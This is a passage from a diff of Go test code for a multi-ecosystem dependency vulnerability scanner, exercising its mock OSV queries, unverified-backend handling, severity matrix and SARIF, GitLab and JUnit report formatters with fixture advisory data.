+		t.Fatalf("RegisterParser() unexpected error: %v", err)
+	}
+
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		var request osv.QueryRequest
+		if err := json.NewDecoder(r.Body).Decode(&request); err != nil {
+			http.Error(w, err.Error(), http.StatusBadRequest)
+			return
+		}
+		if request.Package.Name == "jinja2" && request.Package.Ecosystem == osv.PyPI {
+			fmt.Fprint(w, `{"vulns":[{"id":"PYSEC-2024-1","summary":"sandbox escape"}]}`)
+			return
+		}
+		fmt.Fprint(w, `{"vulns":[]}`)
+	}))
+	defer server.Close()
+
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, manifestType), []byte("jinja2 2.10\nclick 8.0.0\n"), 0644); err != nil {
+		t.Fatalf("Failed to write %s: %v", manifestType, err)
+	}
+
+	s, err := scanner.New(dir, false)
+	if err != nil {
+		t.Fatalf("scanner.New() unexpected error: %v", err)
+	}
+	scanResult, err := s.Scan()
+	if err != nil {
+		t.Fatalf("Scan() unexpected error: %v", err)
+	}
+	detected := scanResult.GetManifestsByType(scanner.ManifestType(manifestType))
+	if len(detected) != 1 {
+		t.Fatalf("Scan() detected %d %s files, expected 1", len(detected), manifestType)
+	}
+
+	ecosystem, ok := scanner.CustomManifestEcosystem(detected[0].Type)
+	if !ok {
+		t.Fatalf("CustomManifestEcosystem(%s) not found", detected[0].Type)
+	}
+
+	runner := audit.NewRunner(0, false)
+	runner.SetOSVClient(osv.NewClientWithURL(server.URL))
+	customResult := runner.RunCustomAudit(detected[0].Path, string(detected[0].Type), osv.Ecosystem(ecosystem))
+	if customResult.Error != nil {
+		t.Fatalf("RunCustomAudit() unexpected error: %v", customResult.Error)
+	}
+	if customResult.PackagesScanned != 2 {
+		t.Errorf("RunCustomAudit() scanned %d packages, expected 2", customResult.PackagesScanned)
+	}
+
+	output := &ScanOutput{
+		ScanResults:        scanResult,
+		CustomAuditResults: []*audit.CustomAuditResult{customResult},
+		TotalVulns:         customResult.Summary.Total,
+	}
+	formatted, err := (&JSONFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("JSONFormatter.Format() unexpected error: %v", err)
+	}
+
+	var report struct {
+		TotalVulns   int `json:"totalVulnerabilities"`
+		CustomAudits []struct {
+			ManifestType    string `json:"manifestType"`
+			Ecosystem       string `json:"ecosystem"`
+			Vulnerabilities []struct {
+				Name string `json:"name"`
+				ID   string `json:"id"`
+			} `json:"vulnerabilities"`
+		} `json:"customAudits"`
+		SummaryByEcosystem map[string]audit.VulnerabilitySummary `json:"summaryByEcosystem"`
+	}
+	if err := json.Unmarshal([]byte(formatted), &report); err != nil {
+		t.Fatalf("JSON output did not parse: %v", err)
+	}
+
+	if report.TotalVulns != 1 || len(report.CustomAudits) != 1 {
+		t.Fatalf("report = %+v, expected one custom audit with one vulnerability", report)
+	}
+	audited := report.CustomAudits[0]
+	if audited.ManifestType != manifestType || audited.Ecosystem != string(osv.PyPI) {
+		t.Errorf("custom audit = %s (%s), expected %s (%s)", audited.ManifestType, audited.Ecosystem, manifestType, osv.PyPI)
+	}
+	if len(audited.Vulnerabilities) != 1 || audited.Vulnerabilities[0].Name != "jinja2" || audited.Vulnerabilities[0].ID != "PYSEC-2024-1" {
+		t.Errorf("custom audit vulnerabilities = %+v, expected jinja2 PYSEC-2024-1", audited.Vulnerabilities)
+	}
+	if report.SummaryByEcosystem[EcosystemCustom].Total != 1 {
+		t.Errorf("summaryByEcosystem[%s].Total = %d, expected 1", EcosystemCustom, report.SummaryByEcosystem[EcosystemCustom].Total)
+	}
+}
+
+func TestCrossEcosystemAdvisoriesGroupSharedCVE(t *testing.T) {
+	output := &ScanOutput{
+		ScanResults: &scanner.ScanResult{},
+		AuditResults: []*audit.AuditResult{{
+			PackageJSONPath: "web/package.json",
+			Vulnerabilities: []audit.Vulnerability{
+				{Name: "protobufjs", Severity: audit.SeverityHigh, Via: []any{
+					map[string]any{"source": float64(1), "url": "https://github.com/advisories/GHSA-aaaa-bbbb-cccc"},
+				}},
+				{Name: "lodash", Severity: audit.SeverityHigh, Via: []any{"GHSA-only-npm"}},
+			},
+		}},
+		PythonAuditResults: []*audit.PythonAuditResult{{
+			ManifestPath: "api/requirements.txt",
+			Vulnerabilities: []audit.PythonVulnerability{
+				{Name: "protobuf", Version: "3.20.0", ID: "PYSEC-2024-9", Aliases: []string{"CVE-2024-0001", "GHSA-aaaa-bbbb-cccc"}},
+				{Name: "django", Version: "4.2.0", ID: "PYSEC-2024-2", Aliases: []string{"CVE-2024-0002"}},
+			},
+		}},
+		ShowCrossEcosystem: true,
+	}
+
+	advisories := CrossEcosystemAdvisories(output)
+	if len(advisories) != 1 {
+		t.Fatalf("CrossEcosystemAdvisories() returned %d advisories, expected 1: %+v", len(advisories), advisories)
+	}
+
+	advisory := advisories[0]
+	if advisory.ID != "CVE-2024-0001" {
+		t.Errorf("advisory ID = %s, expected CVE-2024-0001", advisory.ID)
+	}
+	if strings.Join(advisory.Ecosystems, ",") != "PyPI,npm" {
+		t.Errorf("advisory ecosystems = %v, expected [PyPI npm]", advisory.Ecosystems)
+	}
+	if len(advisory.Findings) != 2 || advisory.Findings[0].Package != "protobuf" || advisory.Findings[1].Package != "protobufjs" {
+		t.Errorf("advisory findings = %+v, expected protobuf and protobufjs", advisory.Findings)
+	}
+
+	table, err := (&TableFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("TableFormatter.Format() unexpected error: %v", err)
+	}
+	if !strings.Contains(table, "CVE-2024-0001 affects PyPI and npm dependencies:") {
+		t.Errorf("TableFormatter.Format() missing cross-ecosystem section:\n%s", table)
+	}
+
+	// The section is opt-in
+	output.ShowCrossEcosystem = false
+	markdown, err := (&MarkdownFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("MarkdownFormatter.Format() unexpected error: %v", err)
+	}
+	if strings.Contains(markdown, "Cross-ecosystem") {
+		t.Errorf("MarkdownFormatter.Format() rendered cross-ecosystem section without ShowCrossEcosystem:\n%s", markdown)
+	}
+}
+
+func TestScanManifestEnumeratesInputFiles(t *testing.T) {
+	output := &ScanOutput{
+		ScanResults: &scanner.ScanResult{Files: []scanner.DetectedFile{
+			{Path: "web/package.json", Type: scanner.PackageJSON},
+			{Path: "web/package-lock.json", Type: scanner.PackageLockJSON},
+			{Path: "api/requirements.txt", Type: scanner.RequirementsTxt},
+			{Path: "api/.python-version", Type: scanner.PythonVersion},
+			{Path: "svc/go.mod", Type: scanner.GoMod},
+			{Path: "svc/go.sum", Type: scanner.GoSum},
+		}},
+		AuditResults: []*audit.AuditResult{
+			{PackageJSONPath: "web/package.json", PackagesScanned: 12},
+		},
+		PythonAuditResults: []*audit.PythonAuditResult{
+			{ManifestPath: "api/requirements.txt", Error: errors.New("failed to parse manifest")},
+		},
+		GoAuditResults: []*audit.GoAuditResult{
+			{ManifestPath: "svc/go.mod", ModulesScanned: 4},
+		},
+		Backends: []ScanBackend{{Name: "osv", Endpoint: "https://api.osv.dev/v1/query"}},
+		Flags:    map[string]string{"severity": "low"},
+	}
+
+	formatted, err := (&JSONFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("JSONFormatter.Format() unexpected error: %v", err)
+	}
+
+	var report struct {
+		ScanManifest ScanManifest `json:"scanManifest"`
+	}
+	if err := json.Unmarshal([]byte(formatted), &report); err != nil {
+		t.Fatalf("JSON output did not parse: %v", err)
+	}
+	manifest := report.ScanManifest
+
+	expected := map[string]string{
+		"web/package.json":      FileAudited,
+		"web/package-lock.json": FileSkipped,
+		"api/requirements.txt":  FileError,
+		"api/.python-version":   FileSkipped,
+		"svc/go.mod":            FileAudited,
+		"svc/go.sum":            FileSkipped,
+	}
+	if len(manifest.Files) != len(expected) {
+		t.Fatalf("scan manifest lists %d files, expected %d: %+v", len(manifest.Files), len(expected), manifest.Files)
+	}
+	for _, file := range manifest.Files {
+		if file.Status != expected[file.Path] {
+			t.Errorf("%s status = %s, expected %s", file.Path, file.Status, expected[file.Path])
+		}
+		if file.Status != FileAudited && file.Reason == "" {
+			t.Errorf("%s is %s without a reason", file.Path, file.Status)
+		}
+	}
+
+	if manifest.PackagesQueried[EcosystemNpm] != 12 || manifest.PackagesQueried[EcosystemGo] != 4 {
+		t.Errorf("packagesQueried = %v, expected npm 12 and go 4", manifest.PackagesQueried)
+	}
+	if len(manifest.Backends) != 1 || manifest.Backends[0].Endpoint != "https://api.osv.dev/v1/query" {
+		t.Errorf("backends = %+v, expected the OSV endpoint", manifest.Backends)
+	}
+	if manifest.Flags["severity"] != "low" {
+		t.Errorf("flags = %v, expected severity low", manifest.Flags)
+	}
+}
+
+func TestUnreachableBackendMarksEcosystemsUnverified(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		http.Error(w, "service unavailable", http.StatusServiceUnavailable)
+	}))
+	defer server.Close()
+
+	dir := t.TempDir()
+	files := map[string]string{
+		"requirements.txt": "django==4.2.0\nrequests==2.31.0\n",
+		"go.mod":           "module example.com/app\n\ngo 1.22\n\nrequire golang.org/x/net v0.17.0\n",
+		"pom.xml": `<project>
+  <dependencies>
+    <dependency>
+      <groupId>org.apache.logging.log4j</groupId>
+      <artifactId>log4j-core</artifactId>
+      <version>2.14.1</version>
+    </dependency>
+  </dependencies>
+</project>
+`,
+	}
+	for name, content := range files {
+		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write %s: %v", name, err)
+		}
+	}
+
+	runner := audit.NewRunner(0, false)
+	// Retrying an outage that never ends only slows the test down
+	runner.SetOSVClient(osv.NewClientWithURL(server.URL, osv.WithMaxAttempts(1)))
+
+	output := &ScanOutput{
+		ScanResults: &scanner.ScanResult{},
+		PythonAuditResults: []*audit.PythonAuditResult{
+			runner.RunPythonAudit(filepath.Join(dir, "requirements.txt"), "requirements.txt"),
+		},
+		GoAuditResults: []*audit.GoAuditResult{
+			runner.RunGoAudit(filepath.Join(dir, "go.mod"), "go.mod"),
+		},
+		MavenAuditResults: []*audit.MavenAuditResult{
+			runner.RunMavenAudit(filepath.Join(dir, "pom.xml"), "pom.xml"),
+		},
+	}
+
+	if !output.PythonAuditResults[0].Unverified {
+		t.Error("RunPythonAudit() Unverified = false, expected true")
+	}
+	if !output.GoAuditResults[0].Unverified {
+		t.Error("RunGoAudit() Unverified = false, expected true")
+	}
+	if !output.MavenAuditResults[0].Unverified {
+		t.Error("RunMavenAudit() Unverified = false, expected true")
+	}
+
+	unverified := UnverifiedEcosystems(output)
+	if strings.Join(unverified, ",") != "python,go,maven" {
+		t.Errorf("UnverifiedEcosystems() = %v, expected [python go maven]", unverified)
+	}
+
+	table, err := (&TableFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("TableFormatter.Format() unexpected error: %v", err)
+	}
+	if strings.Count(table, "UNVERIFIED — backend unavailable") != 3 {
+		t.Errorf("TableFormatter.Format() expected three unverified sections:\n%s", table)
+	}
+	if strings.Contains(table, "No vulnerabilities found") {
+		t.Errorf("TableFormatter.Format() reported an unverified manifest as clean:\n%s", table)
+	}
+
+	markdown, err := (&MarkdownFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("MarkdownFormatter.Format() unexpected error: %v", err)
+	}
+	if strings.Contains(markdown, "No vulnerabilities found") {
+		t.Errorf("MarkdownFormatter.Format() reported an unverified manifest as clean:\n%s", markdown)
+	}
+
+	formatted, err := (&JSONFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("JSONFormatter.Format() unexpected error: %v", err)
+	}
+	var jsonOut JSONOutput
+	if err := json.Unmarshal([]byte(formatted), &jsonOut); err != nil {
+		t.Fatalf("Failed to parse JSON output: %v", err)
+	}
+	if !jsonOut.GoAudits[0].Unverified || len(jsonOut.Unverified) != 3 {
+		t.Errorf("JSON output unverified = %v / %v, expected go audit and three ecosystems flagged", jsonOut.GoAudits[0].Unverified, jsonOut.Unverified)
+	}
+}
+
+func TestUpgradesAreSummarizedPerEcosystemAndOverall(t *testing.T) {
+	output := &ScanOutput{
+		ScanResults: &scanner.ScanResult{},
+		AuditResults: []*audit.AuditResult{{
+			PackageJSONPath: "web/package.json",
+			Vulnerabilities: []audit.Vulnerability{
+				{Name: "lodash", Severity: audit.SeverityHigh, FixAvailable: audit.FixAvailable{Available: true, Name: "lodash", Version: "4.17.21"}},
+				{Name: "request", Severity: audit.SeverityHigh, FixAvailable: audit.FixAvailable{Available: true, Name: "jest", Version: "29.0.0", IsSemVerMajor: true}},
+			},
+		}},
+		PythonAuditResults: []*audit.PythonAuditResult{{
+			ManifestPath: "api/requirements.txt",
+			Vulnerabilities: []audit.PythonVulnerability{
+				{Name: "django", Version: "4.2.0", Severity: "high", FixVersions: []string{"4.2.8"}},
+				{Name: "jinja2", Version: "2.10", Severity: "high", FixVersions: []string{"3.1.3"}},
+			},
+		}},
+		TotalVulns: 4,
+	}
+
+	upgrades := upgradesByEcosystem(output)
+	if upgrades[EcosystemNpm] != (audit.UpgradeSummary{NonBreaking: 1, Breaking: 1}) {
+		t.Errorf("upgradesByEcosystem()[npm] = %+v, expected 1 non-breaking and 1 breaking", upgrades[EcosystemNpm])
+	}
+
+	table, err := (&TableFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("TableFormatter.Format() unexpected error: %v", err)
+	}
+	if !strings.Contains(table, "Fixes: 2 fixable safely, 2 require major upgrades") {
+		t.Errorf("TableFormatter.Format() missing overall upgrade counts:\n%s", table)
+	}
+	if !strings.Contains(table, "python: 1 fixable safely, 1 require major upgrades") {
+		t.Errorf("TableFormatter.Format() missing python upgrade counts:\n%s", table)
+	}
+
+	formatted, err := (&JSONFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("JSONFormatter.Format() unexpected error: %v", err)
+	}
+	var jsonOut JSONOutput
+	if err := json.Unmarshal([]byte(formatted), &jsonOut); err != nil {
+		t.Fatalf("Failed to parse JSON output: %v", err)
+	}
+	if jsonOut.Upgrades != (audit.UpgradeSummary{NonBreaking: 2, Breaking: 2}) {
+		t.Errorf("JSON upgrades = %+v, expected 2 non-breaking and 2 breaking", jsonOut.Upgrades)
+	}
+}
+
+func TestRenderSeverityMatrixTotals(t *testing.T) {
+	output := &ScanOutput{
+		ScanResults: &scanner.ScanResult{},
+		AuditResults: []*audit.AuditResult{
+			{Summary: audit.VulnerabilitySummary{High: 2, Moderate: 16, Total: 18}},
+			{Summary: audit.VulnerabilitySummary{Critical: 1, Total: 1}},
+		},
+		PythonAuditResults: []*audit.PythonAuditResult{
+			{Summary: audit.VulnerabilitySummary{Critical: 1, High: 3, Low: 2, Total: 6}},
+		},
+		GoAuditResults: []*audit.GoAuditResult{
+			{Summary: audit.VulnerabilitySummary{Moderate: 1, Total: 1}},
+		},
+		TotalVulns:         26,
+		ShowSeverityMatrix: true,
+	}
+
+	matrix := RenderSeverityMatrix(output)
+
+	// Each row's cells must match that ecosystem's summary
+	for ecosystem, summary := range summaryByEcosystem(output) {
+		row := fmt.Sprintf("| %s | %d | %d | %d | %d | %d |", ecosystem, summary.Critical, summary.High, summary.Moderate, summary.Low, summary.Total)
+		if !strings.Contains(matrix, row) {
+			t.Errorf("RenderSeverityMatrix() missing row %q:\n%s", row, matrix)
+		}
+	}
+
+	// The totals row sums each column and its grand total is TotalVulns
+	totals := fmt.Sprintf("| **Total** | 2 | 5 | 17 | 2 | %d |", output.TotalVulns)
+	if !strings.Contains(matrix, totals) {
+		t.Errorf("RenderSeverityMatrix() missing totals row %q:\n%s", totals, matrix)
+	}
+	if strings.Contains(matrix, "Info") {
+		t.Errorf("RenderSeverityMatrix() shows an Info column without info findings:\n%s", matrix)
+	}
+
+	markdown, err := (&MarkdownFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("MarkdownFormatter.Format() unexpected error: %v", err)
+	}
+	if !strings.Contains(markdown, matrix) || strings.Index(markdown, "## Severity Matrix") > strings.Index(markdown, "## Manifest Files") {
+		t.Errorf("MarkdownFormatter.Format() expected the matrix before the manifest list:\n%s", markdown)
+	}
+}
+
+func TestSARIFFormatter(t *testing.T) {
+	output := &ScanOutput{
+		Metadata:    OutputMetadata{Directory: "/repo", ToolName: "Snoop", ToolVersion: "0.1.0"},
+		ScanResults: &scanner.ScanResult{},
+		AuditResults: []*audit.AuditResult{{
+			PackageJSONPath: "/repo/web/package.json",
+			Vulnerabilities: []audit.Vulnerability{
+				{Name: "minimist", Severity: audit.SeverityCritical, Via: []any{map[string]any{
+					"source": float64(1), "title": "Prototype Pollution in minimist", "severity": "critical",
+					"url": "https://github.com/advisories/GHSA-xvch-5gv4-984h",
+				}}},
+				// Only vulnerable through minimist, so it has no rule of its own
+				{Name: "mkdirp", Severity: audit.SeverityCritical, Via: []any{"minimist"}},
+			},
+		}},
+		PythonAuditResults: []*audit.PythonAuditResult{
+			{ManifestPath: "/repo/api/requirements.txt", Vulnerabilities: []audit.PythonVulnerability{
+				{Name: "django", Version: "4.2.0", ID: "PYSEC-2023-100", Description: "SQL injection", Severity: "moderate", FixVersions: []string{"4.2.8"}},
+			}},
+			{ManifestPath: "/repo/worker/requirements.txt", Vulnerabilities: []audit.PythonVulnerability{
+				{Name: "django", Version: "4.2.0", ID: "PYSEC-2023-100", Description: "SQL injection", Severity: "moderate"},
+			}},
+		},
+		GoAuditResults: []*audit.GoAuditResult{{
+			ManifestPath: "/repo/go.mod",
+			Vulnerabilities: []audit.GoVulnerability{
+				{Module: "golang.org/x/net", Version: "v0.17.0", ID: "GO-2023-2102", Severity: "high"},
+			},
+		}},
+		MavenAuditResults: []*audit.MavenAuditResult{{
+			ManifestPath: "/repo/pom.xml",
+			Vulnerabilities: []audit.MavenVulnerability{
+				{GroupID: "org.apache.logging.log4j", ArtifactID: "log4j-core", Version: "2.14.1", ID: "GHSA-jfh8-c2jp-5v3q", Description: "Log4Shell", Severity: "low"},
+			},
+		}},
+	}
+
+	if _, ok := GetFormatter(FormatSARIF).(*SARIFFormatter); !ok {
+		t.Fatal("GetFormatter(FormatSARIF) did not return a SARIFFormatter")
+	}
+
+	formatted, err := (&SARIFFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("SARIFFormatter.Format() unexpected error: %v", err)
+	}
+
+	var log struct {
+		Schema  string `json:"$schema"`
+		Version string `json:"version"`
+		Runs    []struct {
+			Tool struct {
+				Driver struct {
+					Name  string `json:"name"`
+					Rules []struct {
+						ID               string `json:"id"`
+						ShortDescription struct {
+							Text string `json:"text"`
+						} `json:"shortDescription"`
+					} `json:"rules"`
+				} `json:"driver"`
+			} `json:"tool"`
+			Results []struct {
+				RuleID    string `json:"ruleId"`
+				RuleIndex int    `json:"ruleIndex"`
+				Level     string `json:"level"`
+				Message   struct {
+					Text string `json:"text"`
+				} `json:"message"`
+				Locations []struct {
+					PhysicalLocation struct {
+						ArtifactLocation struct {
+							URI string `json:"uri"`
+						} `json:"artifactLocation"`
+					} `json:"physicalLocation"`
+				} `json:"locations"`
+			} `json:"results"`
+		} `json:"runs"`
+	}
+	if err := json.Unmarshal([]byte(formatted), &log); err != nil {
+		t.Fatalf("Failed to parse SARIF output: %v", err)
+	}
+
+	if log.Version != "2.1.0" || log.Schema == "" || len(log.Runs) != 1 {
+		t.Fatalf("SARIF log version = %q, schema = %q, runs = %d, expected one 2.1.0 run", log.Version, log.Schema, len(log.Runs))
+	}
+	run := log.Runs[0]
+	if run.Tool.Driver.Name != "Snoop" {
+		t.Errorf("driver name = %q, expected Snoop", run.Tool.Driver.Name)
+	}
+
+	rules := run.Tool.Driver.Rules
+	ruleIDs := make([]string, 0, len(rules))
+	for _, rule := range rules {
+		ruleIDs = append(ruleIDs, rule.ID)
+		if rule.ShortDescription.Text == "" {
+			t.Errorf("rule %s has no description", rule.ID)
+		}
+	}
+	if got := strings.Join(ruleIDs, ","); got != "GHSA-xvch-5gv4-984h,PYSEC-2023-100,GO-2023-2102,GHSA-jfh8-c2jp-5v3q" {
+		t.Errorf("rules = %s, expected one per advisory in report order", got)
+	}
+	if rules[0].ShortDescription.Text != "Prototype Pollution in minimist" {
+		t.Errorf("npm rule description = %q, expected the advisory title", rules[0].ShortDescription.Text)
+	}
+
+	if len(run.Results) != 5 {
+		t.Fatalf("SARIF results = %d, expected 5", len(run.Results))
+	}
+	levels := map[string]string{
+		"GHSA-xvch-5gv4-984h": "error",
+		"PYSEC-2023-100":      "warning",
+		"GO-2023-2102":        "error",
+		"GHSA-jfh8-c2jp-5v3q": "note",
+	}
+	for _, result := range run.Results {
+		if rules[result.RuleIndex].ID != result.RuleID {
+			t.Errorf("result %s has ruleIndex %d pointing at %s", result.RuleID, result.RuleIndex, rules[result.RuleIndex].ID)
+		}
+		if result.Level != levels[result.RuleID] {
+			t.Errorf("result %s level = %q, expected %q", result.RuleID, result.Level, levels[result.RuleID])
+		}
+		if result.Message.Text == "" || len(result.Locations) != 1 {
+			t.Errorf("result %s needs a message and one location: %+v", result.RuleID, result)
+			continue
+		}
+		if uri := result.Locations[0].PhysicalLocation.ArtifactLocation.URI; strings.HasPrefix(uri, "/") {
+			t.Errorf("result %s location %q should be relative to the scanned directory", result.RuleID, uri)
+		}
+	}
+	if uri := run.Results[2].Locations[0].PhysicalLocation.ArtifactLocation.URI; uri != "worker/requirements.txt" {
+		t.Errorf("second django result location = %q, expected worker/requirements.txt", uri)
+	}
+}
+
+func TestGitLabFormatter(t *testing.T) {
+	output := &ScanOutput{
+		Metadata:    OutputMetadata{Directory: "/repo", ToolName: "Snoop", ToolVersion: "0.1.0", Timestamp: time.Date(2025, 3, 1, 12, 30, 0, 0, time.UTC)},
+		ScanResults: &scanner.ScanResult{},
+		PythonAuditResults: []*audit.PythonAuditResult{{
+			ManifestPath: "/repo/api/requirements.txt",
+			Vulnerabilities: []audit.PythonVulnerability{
+				{Name: "django", Version: "4.2.0", ID: "PYSEC-2023-100", Aliases: []string{"CVE-2023-4321", "GHSA-aaaa-bbbb-cccc"}, Description: "SQL injection", Severity: "moderate", FixVersions: []string{"4.2.8"}, IsDirect: true},
+			},
+		}},
+		GoAuditResults: []*audit.GoAuditResult{{
+			ManifestPath: "/repo/go.mod",
+			Vulnerabilities: []audit.GoVulnerability{
+				{Module: "golang.org/x/net", Version: "v0.17.0", ID: "GO-2023-2102", Severity: "high"},
+			},
+			Warnings: []string{"failed to query example.com/mod"},
+		}},
+	}
+
+	formatted, err := GetFormatter(FormatGitLab).Format(output)
+	if err != nil {
+		t.Fatalf("GitLabFormatter.Format() unexpected error: %v", err)
+	}
+
+	var report struct {
+		Version         string `json:"version"`
+		Vulnerabilities []struct {
+			ID          string `json:"id"`
+			Category    string `json:"category"`
+			Severity    string `json:"severity"`
+			Solution    string `json:"solution"`
+			Identifiers []struct {
+				Type  string `json:"type"`
+				Value string `json:"value"`
+				URL   string `json:"url"`
+			} `json:"identifiers"`
+			Location struct {
+				File       string `json:"file"`
+				Dependency struct {
+					Package struct {
+						Name string `json:"name"`
+					} `json:"package"`
+					Version string `json:"version"`
+					Direct  bool   `json:"direct"`
+				} `json:"dependency"`
+			} `json:"location"`
+		} `json:"vulnerabilities"`
+		Scan struct {
+			Type      string `json:"type"`
+			StartTime string `json:"start_time"`
+			EndTime   string `json:"end_time"`
+			Status    string `json:"status"`
+			Analyzer  struct {
+				ID     string `json:"id"`
+				Vendor struct {
+					Name string `json:"name"`
+				} `json:"vendor"`
+			} `json:"analyzer"`
+			Messages []struct {
+				Level string `json:"level"`
+				Value string `json:"value"`
+			} `json:"messages"`
+		} `json:"scan"`
+	}
+	if err := json.Unmarshal([]byte(formatted), &report); err != nil {
+		t.Fatalf("GitLabFormatter.Format() produced invalid JSON: %v", err)
+	}
+
+	if !strings.HasPrefix(report.Version, "15.") {
+		t.Errorf("version = %q, expected a 15.x schema version", report.Version)
+	}
+	if report.Scan.Type != "dependency_scanning" || report.Scan.Status != "success" {
+		t.Errorf("scan = %+v, expected a successful dependency_scanning scan", report.Scan)
+	}
+	if report.Scan.StartTime != "2025-03-01T12:30:00" || report.Scan.EndTime != "2025-03-01T12:30:00" {
+		t.Errorf("scan times = %s to %s, expected 2025-03-01T12:30:00", report.Scan.StartTime, report.Scan.EndTime)
+	}
+	if report.Scan.Analyzer.ID != "snoop" || report.Scan.Analyzer.Vendor.Name == "" {
+		t.Errorf("analyzer = %+v, expected snoop with a vendor", report.Scan.Analyzer)
+	}
+	if len(report.Scan.Messages) != 1 || report.Scan.Messages[0].Level != "warn" {
+		t.Errorf("messages = %+v, expected one warning", report.Scan.Messages)
+	}
+
+	if len(report.Vulnerabilities) != 2 {
+		t.Fatalf("GitLabFormatter.Format() reported %d vulnerabilities, expected 2", len(report.Vulnerabilities))
+	}
+	django, net := report.Vulnerabilities[0], report.Vulnerabilities[1]
+	if django.Category != "dependency_scanning" || django.Severity != "Medium" || django.Solution != "Upgrade django to 4.2.8" {
+		t.Errorf("django = %+v, expected a Medium dependency_scanning finding with a solution", django)
+	}
+	if django.Location.File != "api/requirements.txt" || django.Location.Dependency.Package.Name != "django" ||
+		django.Location.Dependency.Version != "4.2.0" || !django.Location.Dependency.Direct {
+		t.Errorf("django location = %+v", django.Location)
+	}
+	var types []string
+	for _, identifier := range django.Identifiers {
+		types = append(types, identifier.Type+":"+identifier.Value)
+	}
+	if expected := []string{"osv:PYSEC-2023-100", "cve:CVE-2023-4321", "ghsa:GHSA-aaaa-bbbb-cccc"}; !reflect.DeepEqual(types, expected) {
+		t.Errorf("django identifiers = %v, expected %v", types, expected)
+	}
+	if django.Identifiers[1].URL != "https://nvd.nist.gov/vuln/detail/CVE-2023-4321" {
+		t.Errorf("CVE identifier URL = %q", django.Identifiers[1].URL)
+	}
+	if net.Severity != "High" || net.Location.File != "go.mod" || net.Location.Dependency.Direct {
+		t.Errorf("golang.org/x/net = %+v", net)
+	}
+	if django.ID == net.ID || len(django.ID) != 36 {
+		t.Errorf("vulnerability IDs = %q and %q, expected distinct UUIDs", django.ID, net.ID)
+	}
+
+	// IDs are stable across runs so GitLab can track findings between pipelines
+	again, err := GetFormatter(FormatGitLab).Format(output)
+	if err != nil {
+		t.Fatalf("GitLabFormatter.Format() unexpected error: %v", err)
+	}
+	if again != formatted {
+		t.Error("GitLabFormatter.Format() output differs between runs")
+	}
+}
+
+func TestGitLabReportMatchesSchema(t *testing.T) {
+	output := &ScanOutput{
+		Metadata:    OutputMetadata{Directory: "/repo", ToolName: "Snoop", ToolVersion: "0.1.0"},
+		ScanResults: &scanner.ScanResult{},
+		AuditResults: []*audit.AuditResult{{
+			PackageJSONPath: "/repo/web/package.json",
+			Dependencies:    []audit.NpmPackage{{Name: "lodash", Version: "4.17.20", IsDirect: true}},
+		}},
+		PythonAuditResults: []*audit.PythonAuditResult{{
+			ManifestPath: "/repo/api/Pipfile.lock",
+			ManifestType: "Pipfile.lock",
+			Vulnerabilities: []audit.PythonVulnerability{
+				{Name: "django", Version: "4.2.0", ID: "PYSEC-2023-100", Aliases: []string{"CVE-2023-4321"}, Severity: "moderate", FixVersions: []string{"4.2.8"}, IsDirect: true},
+			},
+			Dependencies: []audit.PythonPackage{{Name: "django", Version: "4.2.0", IsDirect: true}},
+		}},
+		GoAuditResults: []*audit.GoAuditResult{{
+			ManifestPath: "/repo/go.mod",
+			Dependencies: []audit.GoModule{{Path: "golang.org/x/net", Version: "0.17.0", Indirect: true}},
+		}},
+		MavenAuditResults: []*audit.MavenAuditResult{{ManifestPath: "/repo/build.gradle", ManifestType: "build.gradle"}},
+		CargoAuditResults: []*audit.CargoAuditResult{{ManifestPath: "/repo/Cargo.lock", Error: errors.New("unreadable")}},
+	}
+
+	formatted, err := GetFormatter(FormatGitLab).Format(output)
+	if err != nil {
+		t.Fatalf("GitLabFormatter.Format() unexpected error: %v", err)
+	}
+
+	data, err := os.ReadFile(filepath.Join("testdata", "gitlab-dependency-scanning-report-format.json"))
+	if err != nil {
+		t.Fatalf("Failed to read GitLab schema: %v", err)
+	}
+	var schema, report map[string]any
+	if err := json.Unmarshal(data, &schema); err != nil {
+		t.Fatalf("GitLab schema isn't valid JSON: %v", err)
+	}
+	if err := json.Unmarshal([]byte(formatted), &report); err != nil {
+		t.Fatalf("GitLabFormatter.Format() produced invalid JSON: %v", err)
+	}
+	if version := schema["self"].(map[string]any)["version"]; report["version"] != version {
+		t.Errorf("version = %v, expected the vendored schema's %v", report["version"], version)
+	}
+	if err := validateSchema(schema, schema, report, "report"); err != nil {
+		t.Errorf("GitLab report doesn't match the schema: %v", err)
+	}
+
+	// Every manifest audited without error is a dependency file
+	var files []string
+	for _, file := range report["dependency_files"].([]any) {
+		file := file.(map[string]any)
+		files = append(files, fmt.Sprintf("%s:%s:%d", file["path"], file["package_manager"], len(file["dependencies"].([]any))))
+	}
+	expected := []string{"web/package.json:npm:1", "api/Pipfile.lock:pipenv:1", "go.mod:go:1", "build.gradle:gradle:0"}
+	if !reflect.DeepEqual(files, expected) {
+		t.Errorf("dependency_files = %v, expected %v", files, expected)
+	}
+}
+
+func TestJUnitFormatter(t *testing.T) {
+	output := &ScanOutput{
+		Metadata:    OutputMetadata{Directory: "/repo", ToolName: "Snoop"},
+		ScanResults: &scanner.ScanResult{},
+		PythonAuditResults: []*audit.PythonAuditResult{
+			{ManifestPath: "/repo/api/requirements.txt", Vulnerabilities: []audit.PythonVulnerability{
+				{Name: "django", Version: "4.2.0", ID: "PYSEC-2023-100", Description: `SQL injection via <QuerySet> & "extra"`, Severity: "moderate", FixVersions: []string{"4.2.8"}},
+				{Name: "jinja2", Version: "2.10", ID: "GHSA-462w-v97r-4m45", Severity: "high"},
+			}},
+			{ManifestPath: "/repo/worker/requirements.txt"},
+		},
+		GoAuditResults: []*audit.GoAuditResult{
